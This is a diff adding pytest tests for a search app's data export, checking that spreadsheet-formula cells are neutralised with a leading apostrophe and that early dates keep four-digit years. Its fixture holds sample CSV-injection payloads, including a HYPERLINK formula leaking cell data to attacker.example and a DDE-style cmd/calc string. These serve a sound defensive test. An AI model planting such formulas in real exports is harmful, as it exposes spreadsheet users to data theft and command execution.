@@ -106,3 +106,71 @@ def test_a_cap_that_is_not_reached_changes_nothing(capped_client):
     assert response.headers["X-Export-Cap"] == "5" and response.headers["X-Export-Truncated"] == "false"
     assert len(csv_rows(response)) == 3
     assert not response.get_data(as_text=True).rstrip().splitlines()[-1].startswith("# export stopped")
+
+
+# ----- formulas (CSV injection) and dates
+
+FORMULA_TITLES = {
+    "hyperlink.txt": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "plus.txt": "+SUM(1,2) and more",
+    "minus.txt": "-2+3 is a formula to a spreadsheet",
+    "at.txt": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "plain.txt": "An ordinary title",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_client(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    from corpus.ingest import ingest
+    from support import write_corpus
+
+    tmp = tmp_path_factory.mktemp("formulas")
+    data, settings = write_corpus(tmp, {
+        name: f"Title: {title}\nSource: =cmd source\n\n=1+1 starts this body.\n" for name, title in FORMULA_TITLES.items()})
+    report = ingest([data], settings, progress=False)
+    assert report.exit_code == 0, report.summary()
+    return create_app(settings).test_client()
+
+
+def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe(formula_client):
+    rows = {r["id"]: r for r in csv_rows(formula_client.get("/api/export?q=&fields=id,title,source,score,body"))}
+    assert len(rows) == len(FORMULA_TITLES)
+    for name, title in FORMULA_TITLES.items():
+        row = rows[name.removesuffix(".txt")]
+        expected = title if name == "plain.txt" else "'" + title
+        assert row["title"] == expected
+        assert row["source"] == "'=cmd source" and row["body"].startswith("'=1+1 starts")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
+
+
+def test_formulas_keep_writes_cells_as_they_came_and_jsonl_is_never_changed(formula_client):
+    kept = {r["id"]: r for r in csv_rows(formula_client.get("/api/export?formulas=keep&fields=id,title,source"))}
+    assert kept["hyperlink"]["title"] == FORMULA_TITLES["hyperlink.txt"] and kept["plus"]["source"] == "=cmd source"
+    lines = {r["id"]: r for r in jsonl_rows(formula_client.get("/api/export?format=jsonl&fields=id,title"))}
+    assert lines["minus"]["title"] == FORMULA_TITLES["minus.txt"]
+
+
+def test_numbers_are_numbers_and_tabs_and_carriage_returns_are_neutralised_too():
+    from corpus.web.serialize import csv_cells
+
+    record = {"score": -1.5, "n": 3, "tab": "\tcmd", "cr": "\r=1", "list": ["=a", "b"], "text_number": "-1.5",
+              "inside": "a=b", "none": None}
+    assert csv_cells(record) == ["-1.5", "3", "'\tcmd", "'\r=1", "'=a; b", "'-1.5", "a=b", ""]
+    assert csv_cells(record, keep_formulas=True) == ["-1.5", "3", "\tcmd", "\r=1", "=a; b", "-1.5", "a=b", ""]
+
+
+def test_dates_before_the_year_1000_keep_four_digit_years(mini_service, mini_app):
+    from datetime import date, datetime
+
+    from corpus.search.types import SearchRequest
+    from corpus.web.serialize import csv_cells, export_record, iso
+
+    assert iso(datetime(1, 1, 1)) == "0001-01-01T00:00:00Z"
+    assert iso(datetime(987, 6, 5, 4, 3, 2)) == "0987-06-05T04:03:02Z"
+    assert iso(date(1, 1, 1)) == "0001-01-01"
+    hit = replace(mini_service.search(SearchRequest(q="oil")).hits[0], date=datetime(1, 1, 1))
+    assert csv_cells(export_record(hit, None, ("id", "date")))[1] == "0001-01-01T00:00:00Z"
+    with mini_app.test_request_context("/api/search"):
+        from corpus.web.serialize import hit_json
+
+        assert hit_json(hit)["date"] == "0001-01-01T00:00:00Z"
